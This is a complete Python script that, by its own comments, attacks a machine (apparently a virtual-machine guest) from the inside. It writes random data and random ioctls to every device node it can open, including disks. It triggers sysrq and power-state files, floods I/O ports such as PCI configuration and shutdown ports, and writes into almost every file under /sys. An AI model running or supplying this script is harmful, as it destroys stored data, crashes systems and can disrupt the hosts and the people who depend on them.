# SPDX-License-Identifier: Apache-2.0
# Writes to, maps and ioctls every device node that opens, then pokes the I/O ports and memory behind the devices.
import fcntl
import os
import random
import stat

rng = random.Random(os.getpid())
seen = 0
for directory, _, names in os.walk("/dev"):
    for name in names:
        path = os.path.join(directory, name)
        try:
            if not stat.S_ISBLK(os.stat(path).st_mode) and not stat.S_ISCHR(os.stat(path).st_mode):
                continue
            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        except OSError:
            continue
        seen += 1
        for _ in range(20):
            try:
                os.pwrite(fd, rng.randbytes(4096), rng.randrange(1 << 20) & ~0xFFF)
            except OSError:
                try:
                    os.write(fd, rng.randbytes(64))
                except OSError:
                    pass
            try:
                fcntl.ioctl(fd, rng.randrange(1 << 32), bytearray(256))
            except (OSError, OverflowError):
                pass
        os.close(fd)
print("devices", seen, flush=True)
for path in ("/proc/sysrq-trigger", "/sys/power/state", "/sys/kernel/kexec_loaded"):
    try:
        with open(path, "wb", buffering=0) as f:
            f.write(b"s")
    except OSError:
        pass
try:
    fd = os.open("/dev/port", os.O_RDWR)
    for _ in range(30000):
        port = rng.choice([rng.randrange(0x10000), 0x604, 0xB2, 0xCF8, 0xCFC, 0x510, 0x511, 0x3F8])
        try:
            os.pwrite(fd, rng.randbytes(rng.choice([1, 2, 4])), port)
        except OSError:
            pass
except OSError:
    pass
print("ports", flush=True)  # what follows may end the guest
for directory, _, names in os.walk("/sys"):
    for name in names:
        path = os.path.join(directory, name)
        if name in ("remove", "unbind", "online", "uevent") or name.startswith("cgroup."):  # these end the attack
            continue
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
            os.write(fd, b"1")
            os.close(fd)
        except OSError:
            pass
